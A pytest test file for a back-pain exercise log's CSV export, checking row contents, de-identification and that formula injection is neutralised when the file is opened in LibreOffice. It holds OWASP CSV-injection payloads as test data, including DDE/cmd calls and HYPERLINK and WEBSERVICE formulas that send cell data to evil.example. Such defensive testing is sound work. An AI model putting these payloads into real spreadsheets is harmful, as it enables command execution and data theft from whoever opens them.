"""The spreadsheet export: rows per session and check-in, safe cells, atomic owner-only file."""

from __future__ import annotations

import csv
import os
import re
import shutil
import stat
import subprocess
from datetime import datetime, timedelta, timezone
from pathlib import Path
from xml.etree import ElementTree

import pandas as pd
import plans
import pytest

from backrelief_analysis.cli import main
from backrelief_analysis.log.store import (
    ExerciseBlock,
    LogStore,
    PainEntry,
    SignalEntry,
    load_log,
)
from backrelief_analysis.plan import load_plan
from backrelief_analysis.share.export import (
    DEIDENTIFIED_COLUMNS,
    check_period,
    deidentify_export,
    export_sessions,
    neutralise_cells,
    write_export,
)

EXERCISE_HEADER = ("session_id,session_started_at,exercise,side,reps_target,reps_done,"
                   "hold_s_target,hold_s_mean,status,logged_at\n")
PAIN_HEADER = "recorded_at,pain,context,session_id,flare,note\n"

HOSTILE_NOTES = ['=HYPERLINK("http://x","y")', "+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]


def write_log(folder: Path, exercise_rows: list[str], pain_rows: list[str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "exercise_log.csv").write_text(EXERCISE_HEADER + "".join(exercise_rows),
                                             encoding="utf-8")
    (folder / "pain_log.csv").write_text(PAIN_HEADER + "".join(pain_rows), encoding="utf-8")
    return folder


def block(session: str, day: str, start: str, exercise: str, side: str, done: int,
          logged: str, status: str = "completed") -> str:
    started = f"2026-{day}T{start}:00+01:00"
    return (f"{session},{started},{exercise},{side},10,{done},5,5.0,{status},"
            f"2026-{day}T{logged}:00+01:00\n")


@pytest.fixture
def two_sessions(tmp_path: Path) -> Path:
    """Two sessions on 1 and 3 September, one check-in on 2 September."""
    exercise = [
        block("s1", "09-01", "08:00", "pelvic_tilt", "", 10, "08:02"),
        block("s1", "09-01", "08:00", "knee_to_chest", "left", 10, "08:05"),
        block("s1", "09-01", "08:00", "knee_to_chest", "right", 8, "08:09", "stopped"),
        block("s1", "09-01", "08:00", "mystery_move", "", 6, "08:12"),
        block("s2", "09-03", "18:30", "pelvic_tilt", "", 10, "18:36"),
    ]
    pain = [
        "2026-09-01T07:59:00+01:00,6,before_session,s1,,\n",
        '2026-09-01T08:13:00+01:00,4,after_session,s1,no,"Felt easier, ""loose"""\n',
        "2026-09-02T21:00:00+01:00,5,check_in,,yes,bad evening\n",
        "2026-09-03T18:29:00+01:00,5,before_session,s2,,\n",
        "2026-09-03T18:37:00+01:00,3,after_session,s2,no,\n",
    ]
    return write_log(tmp_path / "log", exercise, pain)


def test_one_row_per_session_and_per_check_in_in_time_order(two_sessions: Path) -> None:
    rows = export_sessions(load_log(two_sessions), load_plan())
    assert list(rows["kind"]) == ["session", "check_in", "session"]
    assert list(rows["date"]) == ["2026-09-01", "2026-09-02", "2026-09-03"]
    assert list(rows["time"]) == ["08:00", "21:00", "18:30"]


def test_session_row_holds_duration_reps_pain_and_note(two_sessions: Path) -> None:
    first = export_sessions(load_log(two_sessions), load_plan()).iloc[0]
    # 08:00 start to the last block logged at 08:12
    assert first["duration_min"] == 12.0
    assert first["exercises"] == (
        "Pelvic tilt 10/10; Knee to chest L 10/10 R 8/10 (stopped); mystery_move 6/10"
    )
    assert (first["reps_done"], first["reps_prescribed"]) == (34, 40)
    assert (first["pain_before"], first["pain_after"]) == (6, 4)
    assert first["flare"] == "no"
    assert first["note"] == 'Felt easier, "loose"'


def test_a_block_the_session_never_reached_says_so_apart_from_a_skipped_one(
    tmp_path: Path,
) -> None:
    folder = write_log(tmp_path / "log", [
        block("s1", "09-01", "08:00", "pelvic_tilt", "", 0, "08:01", "skipped"),
        block("s1", "09-01", "08:00", "knee_to_chest", "left", 3, "08:03", "stopped"),
        block("s1", "09-01", "08:00", "knee_to_chest", "right", 0, "08:03", "not_reached"),
    ], [])
    row = export_sessions(load_log(folder), load_plan()).iloc[0]
    assert row["exercises"] == (
        "Pelvic tilt 0/10 (skipped); Knee to chest L 3/10 (stopped) R 0/10 (not reached)")


def test_check_in_row_has_its_own_pain_and_no_session_values(two_sessions: Path) -> None:
    check_in = export_sessions(load_log(two_sessions), load_plan()).iloc[1]
    assert check_in["pain_check_in"] == 5
    assert check_in["flare"] == "yes"
    assert check_in["note"] == "bad evening"
    assert pd.isna(check_in["pain_before"]) and check_in["exercises"] == ""


def test_dates_filter_is_inclusive(two_sessions: Path) -> None:
    log = load_log(two_sessions)
    rows = export_sessions(log, start="2026-09-02", end="2026-09-03")
    assert list(rows["date"]) == ["2026-09-02", "2026-09-03"]
    assert list(export_sessions(log, end="2026-09-01")["date"]) == ["2026-09-01"]


def test_start_after_end_is_one_clear_error(two_sessions: Path) -> None:
    with pytest.raises(ValueError, match="start date 2026-09-03 is after the end date 2026-09-01"):
        export_sessions(load_log(two_sessions), start="2026-09-03", end="2026-09-01")


def test_dates_outside_the_log_are_refused(two_sessions: Path) -> None:
    log = load_log(two_sessions)
    runs = "outside the log, which runs from 2026-09-01 to 2026-09-03"
    with pytest.raises(ValueError, match=runs):
        check_period(log, "2026-08-01", None)
    check_period(log, "2026-09-01", "2026-09-03")  # the log's own span is fine


def test_formula_notes_are_neutralised_and_pain_stays_numeric(tmp_path: Path) -> None:
    pain = [
        f"2026-09-0{day}T09:00:00+01:00,{day},check_in,,,\"{note.replace(chr(34), chr(34) * 2)}\"\n"
        for day, note in enumerate(HOSTILE_NOTES, start=1)
    ]
    folder = write_log(tmp_path / "log", [], pain)
    out = write_export(export_sessions(load_log(folder)), tmp_path / "export.csv")

    with out.open(encoding="utf-8-sig", newline="") as file:
        cells = list(csv.DictReader(file))
    assert [row["note"] for row in cells] == ["'" + note for note in HOSTILE_NOTES]
    back = pd.read_csv(out, encoding="utf-8-sig")
    assert back["pain_check_in"].tolist() == [1, 2, 3, 4, 5, 6]
    assert pd.api.types.is_integer_dtype(back["pain_check_in"])


def test_neutralising_leaves_safe_text_and_numbers_alone() -> None:
    frame = pd.DataFrame({"note": ["fine", "a=b", "'=x", ""], "pain": [-1, 2, 3, 4]})
    safe = neutralise_cells(frame)
    assert safe["note"].tolist() == ["fine", "a=b", "'=x", ""]
    assert safe["pain"].tolist() == [-1, 2, 3, 4]
    assert frame["note"].tolist() == ["fine", "a=b", "'=x", ""]  # input not mutated


def test_export_never_changes_the_stored_log(two_sessions: Path, tmp_path: Path) -> None:
    before = {p.name: p.read_bytes() for p in two_sessions.glob("*.csv")}
    write_export(export_sessions(load_log(two_sessions), load_plan()), tmp_path / "out.csv")
    assert {p.name: p.read_bytes() for p in two_sessions.glob("*.csv")} == before


def test_file_is_owner_only_and_replaces_an_old_one_without_leftovers(
    two_sessions: Path, tmp_path: Path
) -> None:
    target = tmp_path / "out" / "export.csv"
    target.parent.mkdir()
    target.write_text("old contents\n")
    write_export(export_sessions(load_log(two_sessions)), target)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert "old contents" not in target.read_text(encoding="utf-8-sig")
    assert [p.name for p in target.parent.iterdir()] == ["export.csv"]


def test_missing_folder_is_a_clear_error(two_sessions: Path, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="there is no folder"):
        write_export(export_sessions(load_log(two_sessions)), tmp_path / "nope" / "x.csv")


def test_empty_log_exports_a_header_only(tmp_path: Path) -> None:
    folder = write_log(tmp_path / "log", [], [])
    out = write_export(export_sessions(load_log(folder)), tmp_path / "x.csv")
    assert out.read_text(encoding="utf-8-sig").splitlines()[0].startswith("kind,date,time")
    assert len(out.read_text(encoding="utf-8-sig").splitlines()) == 1


def test_one_row_per_questionnaire_occasion_with_its_score_and_answers(
        two_sessions: Path) -> None:
    from outcome_fixtures import OCCASIONS, write_outcomes

    moved = {"2026-08-31": "2026-09-02", "2026-09-14": "2026-09-03"}  # into the log's days
    occasions = [(moved[recorded[:10]] + recorded[10:], measure, items)
                 for recorded, measure, items in OCCASIONS if not recorded.startswith("2026-11")]
    write_outcomes(two_sessions, occasions)
    rows = export_sessions(load_log(two_sessions), load_plan())
    asked = rows.loc[rows["kind"] == "questionnaire"]
    assert asked["measure"].tolist() == ["PEG", "PSFS", "ODI", "PEG", "PSFS"]
    # PEG (7 + 6 + 8) / 3 = 7; PSFS (3 + 4 + 2) / 3 = 3; ODI total 34; then 5 and 3.67
    assert asked["score"].tolist() == [7.0, 3.0, 34.0, 5.0, 3.67]
    assert asked["answers"].iloc[1] == "lifting my son 3; gardening 4; sitting at work 2"
    assert asked["date"].tolist() == ["2026-09-02"] * 3 + ["2026-09-03"] * 2
    # in time order: the questionnaires at 09:00 come before the check-in at 21:00
    assert list(rows["kind"]) == ["session", "questionnaire", "questionnaire", "questionnaire",
                                  "check_in", "questionnaire", "questionnaire", "session"]


def test_a_formula_typed_as_an_activity_is_neutralised(two_sessions: Path, tmp_path: Path) -> None:
    from outcome_fixtures import write_outcomes

    write_outcomes(two_sessions, [("2026-09-02T10:00:00+01:00", "psfs",
                                   [("=HYPERLINK(\"http://x\",\"y\")", 4)])])
    out = write_export(export_sessions(load_log(two_sessions)), tmp_path / "export.csv")
    with out.open(encoding="utf-8-sig", newline="") as file:
        asked = [row for row in csv.DictReader(file) if row["kind"] == "questionnaire"]
    assert [row["answers"] for row in asked] == ['\'=HYPERLINK("http://x","y") 4']
    assert [row["score"] for row in asked] == ["4.0"]


def test_the_demo_export_has_a_row_per_questionnaire_with_hand_computed_scores() -> None:
    from backrelief_analysis import paths
    rows = export_sessions(load_log(paths.DEMO_DIR), load_plan())
    asked = rows.loc[rows["kind"] == "questionnaire"]
    assert asked["measure"].value_counts().to_dict() == {"PEG": 6, "PSFS": 6, "ODI": 2}
    first = asked.loc[asked["date"] == "2026-08-31"]
    # PEG (5 + 6 + 6) / 3; PSFS (4 + 3 + 5) / 3; ODI total
    assert first["score"].tolist() == [5.67, 4.0, 31.0]
    assert first["answers"].iloc[0] == "pain 5; enjoyment 6; activity 6"


def test_the_export_reads_the_same_session_scores_as_the_analysis(tmp_path: Path) -> None:
    # s1 has two before scores, 7 then 5 (a correction): the last counts in the export, as in
    # the analysis (pain.session_effects: after 4 minus before 5 = -1)
    from backrelief_analysis.analysis.pain import session_effects

    folder = write_log(tmp_path / "log", [block("s1", "09-01", "08:00", "pelvic_tilt", "", 10,
                                                "08:02")], [
        "2026-09-01T07:58:00+01:00,7,before_session,s1,,\n",
        "2026-09-01T07:59:00+01:00,5,before_session,s1,,\n",
        "2026-09-01T08:13:00+01:00,4,after_session,s1,no,\n",
    ])
    log = load_log(folder)
    row = export_sessions(log).iloc[0]
    assert (row["pain_before"], row["pain_after"]) == (5, 4)
    assert session_effects(log.pain, log.exercise)["before"].tolist() == [5.0]


def test_rows_in_a_week_the_period_cuts_are_marked_part(two_sessions: Path) -> None:
    # the log runs Tue 1 to Thu 3 September 2026 (ISO week 36, Mon 31 Aug to Sun 6 Sep): the
    # whole export lies in a week it cuts; exported 31 Aug to 6 Sep, the week is whole
    log = load_log(two_sessions)
    assert list(export_sessions(log)["part_week"]) == ["yes", "yes", "yes"]
    assert list(export_sessions(log, start="2026-08-31", end="2026-09-06")["part_week"]) == [
        "", "", ""]


# --- hostile input, read back by a real spreadsheet ---------------------------------------------

SOFFICE = shutil.which("soffice") or "/usr/bin/soffice"
# LibreOffice's CSV import options: comma, double quote, UTF-8, from line 1, no column formats,
# English (US), quoted fields not forced to text, detect special numbers, -, -, "trim spaces"
# on, -, "evaluate formulas" on: the settings under which a typed formula is most alive
CALC_CSV_IMPORT = "CSV:44,34,76,1,,1033,false,true,false,false,true,,true"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
# payloads from OWASP's "CSV Injection" page, with the variants a trimming import brings alive
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click to fix")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+9+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/C calc";"!A0")',
    " =HYPERLINK(L2)",
    '   =WEBSERVICE("http://evil.example/")',
    "\u00a0=1+1",
    "\u3000=1+1",
    " +1+1",
    " -1+1",
    " @SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1;1)",
]

# the log store cannot read back a field holding a bare carriage return (a limit of the store,
# not of the export): those payloads are checked on the plan's exercise name and on cells
LOGGED_PAYLOADS = [payload for payload in OWASP_PAYLOADS if "\r" not in payload]


Cell = tuple[str | None, str | None, str]


def calc_rows(csv_file: Path, tmp_path: Path) -> list[list[Cell]]:
    """Open ``csv_file`` in LibreOffice Calc (headless, spaces trimmed, formulas evaluated) and
    return its rows, each cell as (formula, value type, shown text)."""
    if not Path(SOFFICE).exists():
        reason = "LibreOffice is missing: install it with `apt-get install libreoffice-calc`"
        if os.environ.get("CI") == "true":
            pytest.fail(reason)
        pytest.skip(reason)
    out = tmp_path / "calc"
    # a profile of its own: runs as root, and beside other runs, without a shared lock
    profile = (tmp_path / "lo-profile").as_uri()
    subprocess.run(
        [SOFFICE, f"-env:UserInstallation={profile}", "--headless", "--norestore",
         f"--infilter={CALC_CSV_IMPORT}", "--convert-to", "fods", "--outdir", str(out),
         str(csv_file)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    tree = ElementTree.parse(out / (csv_file.stem + ".fods"))
    rows = []
    for row in tree.iter(f"{{{TABLE}}}table-row"):
        cells = []
        for cell in row.iter(f"{{{TABLE}}}table-cell"):
            shown = "\n".join("".join(p.itertext()) for p in cell.iter(f"{{{TEXT}}}p"))
            repeat = int(cell.get(f"{{{TABLE}}}number-columns-repeated", "1"))
            cells += [(cell.get(f"{{{TABLE}}}formula"), cell.get(f"{{{OFFICE}}}value-type"),
                       shown)] * min(repeat, 64)
        rows.append(cells)
    return rows


def hostile_everywhere(folder: Path) -> tuple[Path, Path]:
    """A log and a plan with a payload in every free-text field: notes of check-ins and of
    sessions, session ids, exercise ids the plan does not know, and the plan's exercise name."""
    exercise = [EXERCISE_HEADER.strip().split(",")]
    pain = [PAIN_HEADER.strip().split(",")]
    for index, payload in enumerate(LOGGED_PAYLOADS, start=1):
        day = f"2026-09-{index:02d}"
        pain.append([f"{day}T20:00:00+01:00", str(index % 11), "check_in", "", "", payload])
        session = payload if index % 2 else f"s{index}"
        exercise.append([session, f"{day}T08:00:00+01:00", "pelvic_tilt", "", "10", "10", "5",
                         "5.0", "completed", f"{day}T08:02:00+01:00"])
        exercise.append([session, f"{day}T08:00:00+01:00", payload, "", "10", "7", "5",
                         "5.0", "completed", f"{day}T08:04:00+01:00"])
        pain.append([f"{day}T08:05:00+01:00", "3", "after_session", session, "no", payload])
    folder.mkdir(parents=True)
    for name, rows in (("exercise_log.csv", exercise), ("pain_log.csv", pain)):
        with (folder / name).open("w", encoding="utf-8", newline="") as file:
            csv.writer(file, lineterminator="\n").writerows(rows)
    plan = folder.parent / "plan.toml"
    hostile_name = ' =HYPERLINK("http://evil.example","Pelvic tilt")'
    plans.write_plan(plan, plans.exercise("pelvic_tilt", hostile_name, "Tilt.", hold_s=5, reps=10,
                                          release_s=0), name="Plan", target=3)
    return folder, plan


def test_no_payload_becomes_a_formula_in_libreoffice_and_numbers_stay_numbers(
    tmp_path: Path,
) -> None:
    folder, plan_file = hostile_everywhere(tmp_path / "log")
    log, plan = load_log(folder), load_plan(plan_file)
    rows = export_sessions(log, plan)
    # every payload reached a free-text cell unchanged before neutralising
    text = "\n".join(rows[["exercises", "note", "session_id"]].to_numpy().ravel())
    assert all(payload in text for payload in LOGGED_PAYLOADS)
    out = write_export(rows, tmp_path / "export.csv")
    # the same rows written as a naive export: the check must see formulas there
    naive = tmp_path / "naive.csv"
    rows.to_csv(naive, index=False)

    sheet = calc_rows(out, tmp_path / "safe")
    assert [cell for row in sheet for cell in row if cell[0]] == []
    naive_sheet = calc_rows(naive, tmp_path / "naive")
    assert len([cell for row in naive_sheet for cell in row if cell[0]]) >= 10
    # pain scores and rep counts are still numbers in the spreadsheet
    header = [cell[2] for cell in sheet[0]]
    check_ins = [row for row in sheet[1:] if row[0][2] == "check_in"]
    pain = [row[header.index("pain_check_in")] for row in check_ins]
    assert [cell[1] for cell in pain] == ["float"] * len(LOGGED_PAYLOADS)
    assert [cell[2] for cell in pain[:3]] == ["1", "2", "3"]
    sessions = [row for row in sheet[1:] if row[0][2] == "session"]
    assert {row[header.index("reps_done")][1:] for row in sessions} == {("float", "17")}


def test_every_payload_as_a_cell_stays_text_in_libreoffice(tmp_path: Path) -> None:
    frame = pd.DataFrame({"note": OWASP_PAYLOADS, "pain": range(len(OWASP_PAYLOADS))})
    sheet = calc_rows(write_export(frame, tmp_path / "cells.csv"), tmp_path)
    assert [cell for row in sheet for cell in row if cell[0]] == []
    assert [row[0][1] for row in sheet[1:]] == ["string"] * len(OWASP_PAYLOADS)
    assert [row[1][1:] for row in sheet[1:4]] == [("float", "0"), ("float", "1"), ("float", "2")]


def test_cells_with_a_formula_sign_after_blanks_are_neutralised() -> None:
    notes = ["  =1+1", "\u00a0@x", "\uff1d1", "\nx", "-", "x =1", "1-2", "fine"]
    safe = neutralise_cells(pd.DataFrame({"note": notes}))
    expected = ["'  =1+1", "'\u00a0@x", "'\uff1d1", "'\nx", "'-", "x =1", "1-2", "fine"]
    assert safe["note"].tolist() == expected


# --- de-identified export -----------------------------------------------------------------------


def test_deidentified_export_has_a_code_days_and_no_typed_text(tmp_path: Path) -> None:
    folder, plan_file = hostile_everywhere(tmp_path / "log")
    log, plan = load_log(folder), load_plan(plan_file)
    out = write_export(deidentify_export(log, plan, code="KX-7"), tmp_path / "deid.csv")
    raw = out.read_bytes().decode("utf-8-sig")
    back = pd.read_csv(out, encoding="utf-8-sig", keep_default_na=False)
    assert list(back.columns) == list(DEIDENTIFIED_COLUMNS)
    assert set(back["patient_code"]) == {"KX-7"}
    assert back["day"].iloc[0] == "day 1"
    assert back["day"].iloc[-1] == f"day {len(LOGGED_PAYLOADS)}"
    assert not re.search(r"\d{4}-\d{2}-\d{2}|2026", raw)
    for payload in LOGGED_PAYLOADS:  # notes, session ids and unknown exercise ids
        assert payload.strip() not in raw
    # the plan's exercise name is kept (neutralised), any other id becomes a neutral one
    first = back.loc[back["kind"] == "session"].iloc[0]
    assert first["exercises"].startswith("'=HYPERLINK")
    assert "; exercise-1 7/10" in first["exercises"]


def test_the_named_export_says_the_calendar_dates_the_deidentified_one_leaves_out(
        tmp_path: Path) -> None:
    folder, plan_file = hostile_everywhere(tmp_path / "log")
    log, plan = load_log(folder), load_plan(plan_file)
    named = write_export(export_sessions(log, plan), tmp_path / "named.csv")
    back = pd.read_csv(named, encoding="utf-8-sig", keep_default_na=False)
    assert back["date"].iloc[0] == "2026-09-01"
    hidden = deidentify_export(log, plan, code="P1")
    # each row's day says its date counted from the first (1 September is day 1)
    days = pd.to_datetime(back["date"]) - pd.Timestamp("2026-09-01")
    assert hidden["day"].tolist() == [f"day {delta.days + 1}" for delta in days]
    assert "date" not in hidden.columns


@pytest.mark.parametrize("code", ["Sam Smith", "", "x" * 21, "=1+1", "-P1"])
def test_deidentified_export_refuses_a_code_that_could_hold_a_name(
    two_sessions: Path, code: str
) -> None:
    with pytest.raises(ValueError, match="patient code"):
        deidentify_export(load_log(two_sessions), load_plan(), code=code)


def test_deidentified_days_count_from_the_chosen_start(two_sessions: Path) -> None:
    rows = deidentify_export(load_log(two_sessions), load_plan(), code="P1", start="2026-09-02")
    assert rows["day"].tolist() == ["day 1", "day 2"]


def test_deidentified_export_keeps_questionnaire_numbers_without_the_answers(
        two_sessions: Path, tmp_path: Path) -> None:
    from outcome_fixtures import write_outcomes

    write_outcomes(two_sessions, [("2026-09-02T10:00:00+01:00", "psfs",
                                   [("walking Rex to Kilburn", 4), ("gardening", 7)])])
    out = write_export(deidentify_export(load_log(two_sessions), load_plan(), code="P1"),
                       tmp_path / "deid.csv")
    raw = out.read_bytes().decode("utf-8-sig")
    assert "Rex" not in raw and "gardening" not in raw
    back = pd.read_csv(out, encoding="utf-8-sig", keep_default_na=False)
    asked = back.loc[back["kind"] == "questionnaire"]
    # (4 + 7) / 2, empty on the other kinds of row
    assert asked[["day", "measure", "score"]].values.tolist() == [["day 2", "PSFS", "5.5"]]


def test_export_and_check_count_the_same_sessions_beside_an_orphan_before_score(
    two_sessions: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # a before-score whose session never ran: the page closed before the first block ended
    with (two_sessions / "pain_log.csv").open("a", encoding="utf-8") as pain:
        pain.write("2026-09-04T08:00:00+01:00,6,before_session,never_ran,,\n")
    assert main(["check", "--data-dir", str(two_sessions)]) == 0
    assert main(["export", "--data-dir", str(two_sessions), "--out",
                 str(tmp_path / "sessions.csv")]) == 0
    said = capsys.readouterr().out
    assert "2 sessions," in said and "Wrote 2 sessions" in said
    rows = export_sessions(load_log(two_sessions))
    assert "never_ran" not in set(rows["session_id"])


# --- signals: why blocks stopped, how exercises felt, what got in the way -----------------------

BST = timezone(timedelta(hours=1))
BARRIER_FORMULA = '=HYPERLINK("http://x","y")'


def _at(day: int, clock: str) -> datetime:
    """A moment of September 2026, in summer time."""
    hour, minute = (int(part) for part in clock.split(":"))
    return datetime(2026, 9, day, hour, minute, tzinfo=BST)


def _blocks(session: str, day: int, start: str,
            *rows: tuple[str, str, int, str, str]) -> list[ExerciseBlock]:
    """Blocks of 10 reps of 5 s: (exercise, side, reps done, status, logged at)."""
    return [ExerciseBlock(session, _at(day, start), exercise, side, 10, done, 5.0,
                          5.0 if done else None, status, _at(day, logged))
            for exercise, side, done, status, logged in rows]


@pytest.fixture
def signalled(tmp_path: Path) -> Path:
    """Two sessions (Tue 1 and Thu 3 September), a check-in between, and what was tapped."""
    store = LogStore(tmp_path / "log")
    store.extend_blocks([
        *_blocks("s1", 1, "08:00", ("pelvic_tilt", "", 10, "completed", "08:02"),
                 ("knee_to_chest", "left", 10, "completed", "08:05"),
                 ("knee_to_chest", "right", 3, "stopped", "08:07"),
                 ("bridge", "", 0, "skipped", "08:08")),
        *_blocks("s2", 3, "18:30", ("pelvic_tilt", "", 5, "stopped", "18:33"),
                 ("mystery_move", "", 6, "completed", "18:36")),
    ])
    store.extend_pain([
        PainEntry(_at(1, "07:59"), 6, "before_session", "s1"),
        PainEntry(_at(1, "08:09"), 4, "after_session", "s1", "no"),
        PainEntry(_at(2, "21:00"), 5, "check_in", "", "no"),
        PainEntry(_at(3, "18:29"), 5, "before_session", "s2"),
        PainEntry(_at(3, "18:37"), 3, "after_session", "s2", "no"),
    ])
    store.extend_signals([
        SignalEntry(_at(1, "08:07"), "stop_reason", "too_hard", "s1", "knee_to_chest", "right"),
        SignalEntry(_at(1, "08:08"), "stop_reason", "pain", "s1", "bridge"),
        # corrects the reason of knee to chest, right: the last one counts
        SignalEntry(_at(1, "08:08"), "stop_reason", "no_time", "s1", "knee_to_chest", "right"),
        # about a block s1 does not hold: left out, as the analysis leaves it out
        SignalEntry(_at(1, "08:08"), "stop_reason", "pain", "s1", "back_extension"),
        SignalEntry(_at(1, "08:09"), "felt", "hard", "s1", "pelvic_tilt"),
        SignalEntry(_at(1, "08:09"), "felt", "hard", "s1", "knee_to_chest"),
        SignalEntry(_at(1, "08:09"), "hurt", "yes", "s1", "knee_to_chest"),
        SignalEntry(_at(1, "08:10"), "felt", "easy", "s1", "pelvic_tilt"),  # a correction
        SignalEntry(_at(2, "21:00"), "barrier", "no_time", days_ago=0),
        SignalEntry(_at(2, "22:00"), "barrier", "other", days_ago=0, note=BARRIER_FORMULA),
        SignalEntry(_at(3, "18:29"), "barrier", "forgot", days_ago=1),
        # about Monday 31 August, before the log's first day: no row
        SignalEntry(_at(3, "18:29"), "barrier", "tired", days_ago=3),
        SignalEntry(_at(3, "18:33"), "stop_reason", "other", "s2", "pelvic_tilt",
                    note="cramp in my calf"),
        SignalEntry(_at(3, "18:37"), "felt", "right", "s2", "pelvic_tilt"),
        SignalEntry(_at(3, "18:37"), "felt", "hard", "s2", "mystery_move"),
    ])
    return store.directory


def test_a_session_row_says_why_blocks_stopped_how_each_exercise_felt_and_which_hurt(
        signalled: Path) -> None:
    rows = export_sessions(load_log(signalled), load_plan())
    sessions = rows.loc[rows["kind"] == "session"]
    # s1: knee to chest right "too hard" corrected to "no time"; the bridge skipped for pain;
    # the back extension's reason names no block of s1. In the order the blocks were logged
    assert sessions["stopped_for"].tolist() == [
        "Knee to chest R: not enough time; Bridge: pain", "Pelvic tilt: other (cramp in my calf)"]
    # pelvic tilt "hard" corrected to "easy"; mystery_move is not in the plan: its id
    assert sessions["felt"].tolist() == ["Pelvic tilt easy; Knee to chest hard",
                                         "Pelvic tilt about right; mystery_move hard"]
    assert sessions["hurt"].tolist() == ["Knee to chest", ""]
    assert sessions["barrier"].tolist() == ["", ""]


def test_a_barrier_is_a_row_of_its_own_dated_by_the_day_it_is_about(signalled: Path) -> None:
    rows = export_sessions(load_log(signalled), load_plan())
    # Wednesday 2 September: "no time" and "other" given that evening, "forgot" on Thursday
    # (1 day ago); the "tired" about Monday 31 August lies before the log's first day
    assert rows["kind"].tolist() == ["session", "barrier", "barrier", "barrier", "check_in",
                                     "session"]
    barriers = rows.loc[rows["kind"] == "barrier"]
    assert barriers["date"].tolist() == ["2026-09-02"] * 3
    assert barriers["time"].tolist() == ["", "", ""]
    assert barriers["barrier"].tolist() == ["no time", "other", "forgot"]
    assert barriers["note"].tolist() == ["", BARRIER_FORMULA, ""]
    assert (barriers[["exercises", "stopped_for", "felt", "hurt", "session_id"]] == "").all(
        axis=None)
    # a period that ends on the Tuesday leaves Wednesday's barriers out
    assert "barrier" not in set(export_sessions(load_log(signalled), end="2026-09-01")["kind"])


def test_the_written_export_holds_the_signals_neutralised(signalled: Path,
                                                          tmp_path: Path) -> None:
    out = write_export(export_sessions(load_log(signalled), load_plan()), tmp_path / "x.csv")
    with out.open(encoding="utf-8-sig", newline="") as file:
        back = list(csv.DictReader(file))
    assert [row["kind"] for row in back] == ["session", "barrier", "barrier", "barrier",
                                             "check_in", "session"]
    assert back[0]["stopped_for"] == "Knee to chest R: not enough time; Bridge: pain"
    assert back[0]["felt"] == "Pelvic tilt easy; Knee to chest hard"
    assert back[0]["hurt"] == "Knee to chest"
    # the note typed with "other" starts with "=": a quote keeps it text
    assert (back[2]["barrier"], back[2]["note"]) == ("other", "'" + BARRIER_FORMULA)
    assert [row["date"] for row in back[1:4]] == ["2026-09-02"] * 3


def test_a_formula_in_a_stop_reasons_note_stays_text(tmp_path: Path) -> None:
    store = LogStore(tmp_path / "log")
    store.extend_blocks(_blocks("s1", 1, "08:00", ("bridge", "", 0, "skipped", "08:01")))
    store.extend_signals([SignalEntry(_at(1, "08:01"), "stop_reason", "other", "s1", "bridge",
                                      note="=1+1")])
    # the reason alone would not start with "=": a plan whose exercise is named "=Bridge"
    # puts the sign first
    plan_file = tmp_path / "plan.toml"
    plans.write_plan(plan_file, plans.exercise("bridge", "=Bridge", "Lift.", hold_s=5, reps=10,
                                               release_s=0), name="Plan", target=3)
    out = write_export(export_sessions(load_log(store.directory), load_plan(plan_file)),
                       tmp_path / "x.csv")
    with out.open(encoding="utf-8-sig", newline="") as file:
        back = list(csv.DictReader(file))
    assert back[0]["stopped_for"] == "'=Bridge: other (=1+1)"
    assert back[0]["exercises"] == "'=Bridge 0/10 (skipped)"


def test_the_deidentified_export_keeps_the_categories_and_drops_the_notes(
        signalled: Path, tmp_path: Path) -> None:
    out = write_export(deidentify_export(load_log(signalled), load_plan(), code="P1"),
                       tmp_path / "deid.csv")
    raw = out.read_bytes().decode("utf-8-sig")
    assert "cramp" not in raw and "HYPERLINK" not in raw and "mystery" not in raw
    assert not re.search(r"\d{4}-\d{2}-\d{2}|2026", raw)
    back = pd.read_csv(out, encoding="utf-8-sig", keep_default_na=False)
    assert list(back.columns) == list(DEIDENTIFIED_COLUMNS)
    # 1 September is day 1: the barriers are about day 2
    assert back[["kind", "day"]].values.tolist() == [
        ["session", "day 1"], ["barrier", "day 2"], ["barrier", "day 2"], ["barrier", "day 2"],
        ["check_in", "day 2"], ["session", "day 3"]]
    assert back["barrier"].tolist() == ["", "no time", "other", "forgot", "", ""]
    # the reason "other" without its note; the exercise the plan does not name is exercise-1,
    # as in the exercises column
    assert back["stopped_for"].tolist()[-1] == "Pelvic tilt: other"
    assert back["felt"].tolist()[-1] == "Pelvic tilt about right; exercise-1 hard"
    assert back["exercises"].tolist()[-1] == "Pelvic tilt 5/10 (stopped); exercise-1 6/10"
    assert back["hurt"].tolist()[0] == "Knee to chest"


def test_a_log_without_signals_exports_empty_signal_cells_and_no_barrier(
        two_sessions: Path) -> None:
    rows = export_sessions(load_log(two_sessions), load_plan())
    assert "barrier" not in set(rows["kind"])
    assert (rows[["stopped_for", "felt", "hurt", "barrier"]] == "").all(axis=None)


def test_the_export_command_counts_the_barriers(signalled: Path, tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--data-dir", str(signalled), "--out", str(tmp_path / "x.csv")]) == 0
    assert "Wrote 2 sessions, 1 check-in and 3 barriers to" in capsys.readouterr().out
    assert main(["check", "--data-dir", str(signalled)]) == 0
    # 15 rows in signals_log.csv, every one counted as written
    assert "0 questionnaires, 15 signals, 2026-09-01 to 2026-09-03" in capsys.readouterr().out
